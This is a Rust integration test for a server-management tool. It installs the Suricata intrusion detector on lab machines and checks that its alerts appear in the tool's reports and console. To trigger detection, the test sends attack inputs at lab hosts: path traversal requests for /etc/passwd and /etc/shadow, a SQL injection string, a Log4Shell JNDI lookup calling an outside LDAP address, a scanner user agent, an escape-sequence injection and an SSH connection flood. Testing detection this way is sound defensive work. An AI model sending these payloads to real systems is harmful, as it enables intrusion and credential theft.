//! Suricata on real servers: installed by provisioning from the distribution, watching real packets,
//! its alerts read by the program and by the console.

mod support;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::time::Duration;

use matou::lab::LabKind;
use support::pty::Pty;
use support::{Fleet, matou, ok, said, until};

const PROVISION: [&str; 3] = ["provision", "--only", "suricata"];

/// Asks for a path as it is, not tidied up as HTTP clients do.
fn ask(address: &str, path: &str, agent: &str) {
    let mut stream = TcpStream::connect((address, 80)).expect("the site answers");
    let request = format!(
        "GET {path} HTTP/1.1\r\nHost: site.lab.test\r\nUser-Agent: {agent}\r\nConnection: close\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).expect("sent");
    let _ = stream.read_to_end(&mut Vec::new());
}

fn listed(config: &PathBuf, args: &[&str]) -> serde_json::Value {
    let args = [&["intrusions", "--json"], args].concat();
    let text = ok(config, &args);
    serde_json::from_str(&text).expect("JSON")
}

/// The group of a signature and an address, once it is there.
fn seen(config: &PathBuf, signature: &str, source: &str) -> serde_json::Value {
    let mut found = None;
    until(Duration::from_secs(20), || {
        let report = listed(config, &[]);
        let groups = report["intrusions"].as_array().expect("groups");
        let group = groups
            .iter()
            .find(|g| g["signature"] == signature && g["source"] == source);
        found = group.cloned();
        found.is_some().then_some(()).ok_or(report.to_string())
    });
    found.expect("found")
}

#[test]
fn who_tries_to_get_in_is_seen() {
    let fleet = Fleet::new("sur");
    fleet.wait(
        fleet
            .lab
            .up(2, LabKind::Blank, &|phase| eprintln!("lab: {phase}")),
    );
    // Until it is switched on there is not a word of it.
    let off = fleet.lab.config_path();
    let refused = matou(&off, &PROVISION);
    assert!(
        said(&refused).contains("write suricata = \"builtin\" into [provision]"),
        "{}",
        said(&refused)
    );
    let without = matou(&off, &["intrusions"]);
    assert!(without.status.success(), "{}", said(&without));
    assert!(said(&without).contains("n2: has no Suricata"));

    let config = fleet.config("on.toml", "[provision]\nsuricata = \"builtin\"\n");
    let node = |extra: &'static [&'static str]| [&PROVISION[..], extra].concat();
    let done = ok(&config, &node(&["--node", "n1", "--yes"]));
    assert!(done.contains("n1: suricata changed"), "{done}");
    let again = ok(&config, &node(&["--node", "n1", "--yes"]));
    assert!(again.contains("nothing to do"), "{again}");
    eprintln!("{again}");

    attacks(&fleet, &config);
    in_the_console(&fleet, &config);
    rotated(&fleet, &config);
    newer_rules(&fleet);
    not_proven(&fleet, &config);
}

fn attacks(fleet: &Fleet, config: &PathBuf) {
    let address = fleet.address("n1");
    fleet.run(
        "n1",
        "systemd-run --quiet --unit=site python3 -m http.server 80; \
         until curl -s -o /dev/null http://127.0.0.1/; do sleep 0.2; done",
    );
    let me = format!("{}.1", address.rsplit_once('.').expect("IPv4").0);
    // Nothing that is everyday is told.
    ask(&address, "/index.html?page=2", "Mozilla/5.0");
    ask(&address, "/../../etc/passwd", "Mozilla/5.0");
    ask(
        &address,
        "/%2e%2e%2f%2e%2e%2fboot.ini",
        "Mozilla/5.0\u{1b}[2J",
    );
    ask(
        &address,
        "/?id=1%20union%20all%20select%20passwd",
        "sqlmap/1.7",
    );
    ask(&address, "/?x=${jndi:ldap://203.0.113.9/a}", "Mozilla/5.0");
    for _ in 0..25 {
        drop(TcpStream::connect((&*address, 22)).expect("sshd listens"));
    }
    // So many at once, sshd refuses some (MaxStartups): ours too, until it has seen them go.
    until(Duration::from_secs(20), || {
        let out = matou(config, &["intrusions"]);
        out.status.success().then_some(()).ok_or(said(&out))
    });
    until(Duration::from_secs(60), || {
        let group = seen(config, "HTTP: path traversal", &me);
        let both = group["count"] == 2;
        both.then_some(()).ok_or(group.to_string())
    });
    let group = seen(config, "HTTP: path traversal", &me);
    assert_eq!(group["count"], 2, "{group}");
    assert_eq!(group["severity"], 1, "{group}");
    assert_eq!(group["nodes"], serde_json::json!(["n1"]), "{group}");
    assert_eq!(group["targets"][0], format!("{address}:80"), "{group}");
    assert!(!group.to_string().contains("\\u001b"), "{group}");
    for signature in [
        "HTTP: asks for files with secrets",
        "HTTP: SQL injection",
        "HTTP: a scanner's user agent",
        "HTTP: Log4Shell (CVE-2021-44228)",
        "SSH: many connections from one address",
    ] {
        seen(config, signature, &me);
    }
    let text = ok(config, &["intrusions"]);
    eprintln!("{text}");
    assert!(!text.contains("index.html"), "{text}");
    assert!(text.contains("GET site.lab.test/"), "{text}");
    // A group is by one address: another one's stands beside it.
    let other = format!("curl -s -o /dev/null --path-as-is http://{address}/../../etc/shadow");
    fleet.run("n2", &format!("{other}; sleep 1"));
    let group = seen(config, "HTTP: path traversal", &fleet.address("n2"));
    assert_eq!(group["count"], 1, "{group}");
    std::thread::sleep(Duration::from_secs(2));
    let none = listed(config, &["--since", "1s"]);
    assert_eq!(none["intrusions"], serde_json::json!([]), "{none}");
}

fn in_the_console(fleet: &Fleet, config: &Path) {
    let config = config.to_string_lossy().into_owned();
    let program = env!("CARGO_BIN_EXE_matou");
    let mut console = Pty::start(program, &["--config", &config], &[], 120, 40);
    console.wait_for("Nodes", Duration::from_secs(30));
    console.send("I");
    console.wait_for("path traversal", Duration::from_secs(20));
    console.wait_for("n2: has no Suricata", Duration::from_secs(10));
    let screen = console.screen();
    eprintln!("{screen}");
    assert!(screen.contains(&fleet.address("n2")), "{screen}");
    console.send("\x1b");
    console.wait_gone("path traversal", Duration::from_secs(10));
    console.send("q");
    assert_eq!(console.end(Duration::from_secs(10)), 0);
}

/// What the log held before it was rotated is read too, and Suricata goes on in the new one.
fn rotated(fleet: &Fleet, config: &PathBuf) {
    let address = fleet.address("n1");
    let me = format!("{}.1", address.rsplit_once('.').expect("IPv4").0);
    fleet.run("n1", "logrotate --force /etc/logrotate.d/suricata; sleep 1");
    let count = || seen(config, "HTTP: path traversal", &me)["count"].as_u64();
    let mut before = count();
    // Until none is on its way any more.
    until(Duration::from_secs(60), || {
        std::thread::sleep(Duration::from_secs(2));
        let earlier = std::mem::replace(&mut before, count());
        let stays = before == earlier;
        stays
            .then_some(())
            .ok_or(format!("{earlier:?}, then {before:?}"))
    });
    ask(&address, "/a/../../b", "Mozilla/5.0");
    until(Duration::from_secs(20), || {
        let now = count();
        let one_more = now == before.map(|n| n + 1);
        one_more
            .then_some(())
            .ok_or(format!("{now:?} after {before:?}"))
    });
    fleet.run("n1", "test -s /var/log/suricata/eve.json.1");
}

/// `update` fetches rules by a timer: here from a server on the node itself.
fn newer_rules(fleet: &Fleet) {
    let config = fleet.config("update.toml", "[provision]\nsuricata = \"update\"\n");
    let serve = "set -e; mkdir -p /srv/rules; cd /srv/rules; \
        echo 'alert http any any -> $HOME_NET any (msg:\"ET TEST fetched\"; flow:to_server,established; http.uri; content:\"/fetched\"; sid:2999999; rev:1;)' >emerging-test.rules; \
        tar czf emerging.rules.tar.gz emerging-test.rules; mkdir -p /etc/suricata; \
        printf 'sources:\\n  - http://127.0.0.1:8081/emerging.rules.tar.gz\\n' >/etc/suricata/update.yaml; \
        systemd-run --quiet --unit=rules --working-directory=/srv/rules python3 -m http.server 8081";
    fleet.run("n1", serve);
    let args = [&PROVISION[..], &["--node", "n1", "--yes"]].concat();
    ok(&config, &args);
    let again = ok(&config, &args);
    assert!(again.contains("nothing to do"), "{again}");
    let out = fleet.try_run("n1", "systemctl start matou-suricata-rules.service");
    let log = fleet.run("n1", "journalctl -u matou-suricata-rules -n 40 --no-pager");
    assert!(out.status.success(), "{log}");
    let address = fleet.address("n1");
    let me = format!("{}.1", address.rsplit_once('.').expect("IPv4").0);
    until(Duration::from_secs(20), || {
        ask(&address, "/fetched", "Mozilla/5.0");
        let report = listed(&config, &[]).to_string();
        report
            .contains("ET TEST fetched")
            .then_some(())
            .ok_or(log.clone())
    });
    assert_eq!(seen(&config, "ET TEST fetched", &me)["rule"], "1:2999999");
}

/// A configuration that Suricata refuses is not put in place; what watched goes on.
fn not_proven(fleet: &Fleet, config: &PathBuf) {
    let before = fleet.run(
        "n1",
        "systemctl show -p MainPID suricata; sha256sum /etc/suricata/matou.yaml",
    );
    // The rules refer to classes that are not known then.
    fleet.run(
        "n1",
        "mv /etc/suricata/classification.config /root; echo 'config classification: bad' >/etc/suricata/classification.config",
    );
    let args = [&PROVISION[..], &["--node", "n1", "--yes"]].concat();
    let out = matou(config, &args);
    let text = said(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("prove Suricata's configuration"), "{text}");
    let after = fleet.run(
        "n1",
        "systemctl show -p MainPID suricata; sha256sum /etc/suricata/matou.yaml",
    );
    assert_eq!(after, before);
    fleet.run("n1", "mv /root/classification.config /etc/suricata/");
    ok(config, &args);
    fleet.run("n1", "systemctl stop suricata");
    let down = matou(config, &["intrusions"]);
    assert_eq!(down.status.code(), Some(1), "{}", said(&down));
    assert!(
        said(&down).contains("n1: Suricata does not run (inactive)"),
        "{}",
        said(&down)
    );
}
